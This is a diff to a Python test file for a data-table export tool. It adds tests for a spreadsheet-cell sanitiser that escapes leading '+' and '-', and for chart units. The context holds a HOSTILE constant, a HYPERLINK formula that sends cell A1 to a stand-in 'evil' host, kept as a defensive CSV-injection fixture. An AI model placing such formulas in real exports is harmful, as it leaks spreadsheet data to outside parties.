@@ -15,7 +15,9 @@ from rag.figures.asked import ask
 from rag.figures.read import read_all
 from rag.figures.table import Table, tabulate
 from tests.rag.figures.making import passage
+from ui.figures.chart import Text, chart
 from ui.figures.exports import MEDIA, export, write
+from ui.figures.sheet import safe
 
 HOSTILE = '=HYPERLINK("http://evil/?"&A1,"点我")'
 
@@ -105,3 +107,31 @@ def test_a_file_that_cannot_be_written(tmp_path: Path) -> None:
     with pytest.raises(UsageError, match="写不了"):
         write(table(), "csv", tmp_path / "没有" / "a.csv")
     assert list(tmp_path.iterdir()) == []
+
+
+@pytest.mark.parametrize(
+    ("cell", "expected"),
+    [
+        ("-1.08%", "-1.08%"),
+        ("-6,000", "-6,000"),
+        ("-6000吨", "\u22126000吨"),
+        ("-1+1", "'-1+1"),
+        ("-6000吨+A1", "'-6000吨+A1"),
+        ("-A1", "'-A1"),
+        ("+1", "'+1"),
+    ],
+)
+def test_a_fall_is_written_as_a_number_and_nothing_else_is(cell: str, expected: str) -> None:
+    assert safe(cell) == expected
+
+
+def test_the_unit_of_a_chart_is_that_of_what_is_drawn() -> None:
+    held = [
+        passage("2021年新增就业7020人。", name="a", place="新宁县"),
+        passage("2022年新增就业7245人。", name="b", place="新宁县"),
+        passage("2022年新增就业32.46万人。", name="c", place="湖南省"),
+    ]
+    drawn = chart(tabulate(list(read_all(held)), {p.id: p for p in held}, ask("新增就业")))
+    assert drawn is not None and drawn.title == "新增就业（单位：人）"
+    axis, first = 90.0, [s for s in drawn.shapes if isinstance(s, Text) and s.words == "7020"]
+    assert len(first) == 1 and first[0].x > axis + 20, "clear of the numbers beside the axis"
